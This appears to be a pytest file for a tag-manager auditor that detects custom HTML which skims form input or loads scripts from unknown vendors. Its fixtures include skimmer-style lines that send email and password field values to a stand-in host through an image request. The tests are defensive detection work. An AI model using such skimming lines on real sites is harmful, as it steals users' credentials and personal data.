"""What custom HTML does, read from its text."""

from __future__ import annotations

import pytest
from wholeindex import whole_index

from auditor.decode.gtm_markup import MOST, foreign_scripts, takes_input

INDEX = whole_index()
SEND = "new Image().src = 'https://a.example/?' + "


@pytest.mark.parametrize(
    ("html", "takes"),
    [
        (f"{SEND}document.querySelector('input[name=email]').value", True),
        ("fetch('/x', {body: new FormData(form)})", True),
        (f"document.querySelector('[type=\"password\"]'); {SEND}1", True),
        ("document.querySelector('input[name=q]').value = 'x'; fetch('/y')", False),
        ("dataLayer.push({email: document.querySelector('input').value})", False),
        (f"{SEND}document.title", False),
        ("fetch('/x', {body: new FormData()})", False),
    ],
)
def test_input_is_taken_where_it_is_read_and_something_is_sent(html: str, *, takes: bool) -> None:
    assert takes_input(html) is takes


@pytest.mark.parametrize(
    ("html", "scripts"),
    [
        ('<script src="https://cdn.unknown.example/w.js"></script>', 1),
        ("s.src = '//cdn.unknown.example/a/w.js?x=1'", 1),
        ("<script async src=https://cdn.unknown.example/w.js></script>", 1),
        ('<script src="https://connect.facebook.net/en_US/fbevents.js"></script>', 0),
        ('<script src="/w.js"></script>', 0),
        ('<img src="https://cdn.unknown.example/w.gif">', 0),
        ("x.src = 'https://cdn.unknown.example/w.png'", 0),
        ('<a href="https://cdn.unknown.example/w.js">', 0),
        ('<script src="https://a.example/w.js">' * (MOST + 5), MOST),
    ],
)
def test_scripts_of_no_known_vendor_are_found(html: str, scripts: int) -> None:
    assert len(list(foreign_scripts(html, INDEX))) == scripts
